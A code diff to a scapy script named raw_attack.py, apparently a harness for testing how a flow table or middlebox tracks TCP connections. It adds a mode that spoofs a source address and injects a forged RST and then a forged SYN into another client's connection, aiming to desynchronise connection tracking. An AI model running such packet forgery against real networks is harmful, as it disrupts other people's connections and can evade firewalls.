@@ -31,7 +31,7 @@ its own kernel's RSTs (the kernel knows no socket for scapy's connection).
 
 raw_attack.py rst-only SRC SERVER SPORT - one RST with a random sequence
 number, as SRC:SPORT to SERVER:443 (a forged RST in a real client's
-connection).
+connection); rst-syn-only: that RST, then a SYN with a random ISN.
 
 Prints "sport=N" and one "step ..." line per packet sent on stderr. Exit 0
 once everything was sent (2: no SYN-ACK: the handshake itself failed).
@@ -116,12 +116,18 @@ def far(isn):
 
 
 def main(argv):
-    if len(argv) == 5 and argv[1] == "rst-only":
-        # no handshake: an RST in someone else's connection (a real client's)
+    if len(argv) == 5 and argv[1] in ("rst-only", "rst-syn-only"):
+        # no handshake: packets in someone else's connection (a real client's)
         src, dst, sport = argv[2], argv[3], int(argv[4])
         ip = IPv6(src=src, dst=dst) if ":" in dst else IP(src=src, dst=dst)
         send(ip / TCP(sport=sport, dport=PORT, flags="R", seq=random.getrandbits(32)))
         step("forged rst")
+        if argv[1] == "rst-syn-only":
+            # the server answers it with a challenge ACK and keeps the
+            # connection; a flow table that took it for a new one would see
+            # the real client's next bytes as far past a new ISN
+            send(ip / TCP(sport=sport, dport=PORT, flags="S", seq=random.getrandbits(32)))
+            step("forged syn")
         return 0
     if len(argv) != 4:
         sys.stderr.write(__doc__)
